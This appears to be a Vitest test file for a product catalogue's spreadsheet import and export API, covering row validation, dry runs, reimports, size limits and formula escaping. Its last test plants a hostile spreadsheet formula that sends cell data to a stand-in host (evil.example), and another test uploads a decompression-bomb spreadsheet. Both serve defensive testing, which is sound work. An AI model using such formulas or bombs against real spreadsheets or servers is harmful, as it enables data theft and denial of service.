import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../../test/support/test-app.ts';
import { aCertificate, aProducer, aProduct } from '../../../../test/support/catalogue-fixtures.ts';
import { databaseFingerprint } from '../../../../test/support/database-fingerprint.ts';
import { xlsxBomb } from '../../../../test/support/hostile-spreadsheets.ts';

const exampleDir = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../import/example');
const xlsx = fs.readFileSync(path.join(exampleDir, 'ocop-products-example.xlsx'));
const csv = fs.readFileSync(path.join(exampleDir, 'ocop-products-example.csv'));

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp();
  await t.as('organizer');
});
afterAll(() => t.close());

const upload = (body: Buffer | string, fileName: string, dryRun = false, headers: Record<string, string> = {}) =>
  t.request('organizer', {
    method: 'POST',
    url: `/api/catalogue/import?fileName=${encodeURIComponent(fileName)}&dryRun=${dryRun}`,
    payload: body,
    headers: { 'content-type': fileName.endsWith('.csv') ? 'text/csv' : 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', ...headers },
  });

const BAD_CSV = [
  'STT,Tên sản phẩm,Chủ thể,Loại hình chủ thể,Địa chỉ,Tỉnh/Thành phố,Phân nhóm,Số sao,Số quyết định,Ngày quyết định,Cấp công nhận',
  '1,Mật ong bạc hà,HTX Ong Mèo Vạc,HTX,"Mèo Vạc",Tuyên Quang,I.2.b,4,12/QĐ-UBND,01/03/2024,Tỉnh',
  '2,Miến dong,HTX Miến Cự Đà,HTX,"Cự Khê, Thanh Oai",Hà Nội,Không có nhóm này,3,13/QĐ-UBND,01/03/2024,Tỉnh',
  '3,Chè shan tuyết,HTX Chè Suối Giàng,HTX,"Suối Giàng",Lào Cai,I.5.a,7 sao,14/QĐ-UBND,01/03/2024,Tỉnh',
  '4,Rượu làng Vân,HTX Rượu Vân,HTX,"Vân Hà",Bắc Ninh,II.1.a,4,15/QĐ-UBND,31/02/2024,Tỉnh',
  '5,Mật ong bạc hà,HTX Ong Mèo Vạc,HTX,"Mèo Vạc",Tuyên Quang,I.2.b,4,16/QĐ-UBND,01/03/2024,Tỉnh',
].join('\n');

describe('importing an official list', () => {
  it('reports every problem by row and column, and writes nothing', async () => {
    const before = await databaseFingerprint(t.database);
    const response = await upload(BAD_CSV, 'bad.csv');
    expect(response.statusCode).toBe(422);
    const report = response.json().error.details;
    const found = report.problems.map((p: { row: number; code: string; column: string }) => `${p.row}:${p.code}`);
    expect(found).toEqual(expect.arrayContaining(['3:unknown_category', '4:stars_out_of_range', '5:bad_date', '6:duplicate_product']));
    expect(report.problems.find((p: { code: string }) => p.code === 'unknown_category').column).toBe('Phân nhóm');
    expect(await databaseFingerprint(t.database)).toEqual(before);
  });

  it('dry-runs a valid file: says what it would create, writes nothing', async () => {
    const before = await databaseFingerprint(t.database);
    const response = await upload(xlsx, 'ocop-products-example.xlsx', true);
    expect(response.statusCode).toBe(200);
    const report = response.json();
    expect(report).toMatchObject({ ok: true, dryRun: true, problems: [] });
    expect(report.counts.products.created).toBe(report.rowCount);
    expect(await databaseFingerprint(t.database)).toEqual(before);
  });

  it('imports every row in one go, and a second import of the same list changes nothing', async () => {
    const first = (await upload(xlsx, 'ocop-products-example.xlsx')).json();
    expect(first.ok).toBe(true);
    const products = (await t.app.inject({ method: 'GET', url: '/api/products?pageSize=100' })).json();
    expect(products.total).toBe(first.counts.products.created);

    const snapshot = await databaseFingerprint(t.database);
    const again = (await upload(xlsx, 'ocop-products-example.xlsx')).json();
    expect(again.counts.products).toMatchObject({ created: 0, updated: 0 });
    expect(again.counts.producers).toMatchObject({ created: 0, updated: 0 });
    expect(again.counts.certificates).toMatchObject({ created: 0, updated: 0 });
    const { audit_log: _auditBefore, ...dataBefore } = snapshot;
    const { audit_log: _auditAfter, ...dataAfter } = await databaseFingerprint(t.database);
    expect(dataAfter).toEqual(dataBefore);
  });

  it('matches the same list as CSV to the producers and products already imported', async () => {
    const report = (await upload(csv, 'ocop-products-example.csv')).json();
    expect(report.ok).toBe(true);
    expect(report.counts.producers.created).toBe(0);
    expect(report.counts.products.created).toBe(0);
  });

  it('exports the catalogue in the template columns, which imports back without a change', async () => {
    const exported = await t.request('organizer', { method: 'GET', url: '/api/catalogue/export?format=csv' });
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-disposition']).toContain('.csv');
    const report = (await upload(exported.rawPayload, 'export.csv')).json();
    expect(report.ok).toBe(true);
    expect(report.counts.products).toMatchObject({ created: 0, updated: 0 });
    expect(report.counts.certificates).toMatchObject({ created: 0, updated: 0 });
    const asXlsx = await t.request('organizer', { method: 'GET', url: '/api/catalogue/export?format=xlsx&stars=5' });
    expect(asXlsx.rawPayload.subarray(0, 2).toString()).toBe('PK');
  });

  it('streams progress lines when asked to', async () => {
    const response = await upload(xlsx, 'ocop-products-example.xlsx', true, { accept: 'application/x-ndjson' });
    const lines = response.body.trim().split('\n').map((line) => JSON.parse(line));
    expect(lines.at(-1).report.ok).toBe(true);
    expect(lines.some((line) => line.progress)).toBe(true);
  });

  it('offers the template, which passes its own dry run', async () => {
    const template = await t.app.inject({ method: 'GET', url: '/api/catalogue/import/template?format=csv' });
    expect(template.statusCode).toBe(200);
    const report = (await upload(template.rawPayload, 'template.csv', true)).json();
    expect(report.ok).toBe(true);
  });

  it('refuses a file that is not a spreadsheet', async () => {
    const response = await upload(Buffer.from('%PDF-1.4 not a list'), 'list.xlsx');
    expect(response.statusCode).toBe(422);
  });

  // The row limit is the engine's (spreadsheet-engine.test.ts); here: a limit is a 413 for the uploader.
  it('refuses files past its limits with 413 and the limit, writing nothing', async () => {
    const before = await databaseFingerprint(t.database);
    const bomb = await upload(xlsxBomb(128 * 1024 * 1024), 'bomb.xlsx');
    expect(bomb.statusCode).toBe(413);
    expect(bomb.json().error).toMatchObject({ code: 'entry_too_large', message: expect.stringContaining('64 MB') as string });
    const declared = await upload('x', 'big.csv', false, { 'content-length': String(26 * 1024 * 1024) });
    expect(declared.statusCode).toBe(413);
    expect(declared.json().error.code).toBe('file_too_large');
    expect(await databaseFingerprint(t.database)).toEqual(before);
  });

  it('exports names that a spreadsheet would run as formulas as plain text', async () => {
    const producer = await aProducer(t.database, { name: 'Hộ kinh doanh =Thử' });
    const product = await aProduct(t.database, producer.id, { vi: '=HYPERLINK("http://evil.example/steal?d="&B3,"Xem chi tiết")', en: '@SUM(A1)' });
    await aCertificate(t.database, product.id);
    const csvFile = (await t.request('organizer', { method: 'GET', url: '/api/catalogue/export?format=csv&q=hyperlink' })).body;
    expect(csvFile).toContain(`"'=HYPERLINK(""http://evil.example`);
    expect(csvFile).toContain("'@SUM(A1)");
    expect(csvFile).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
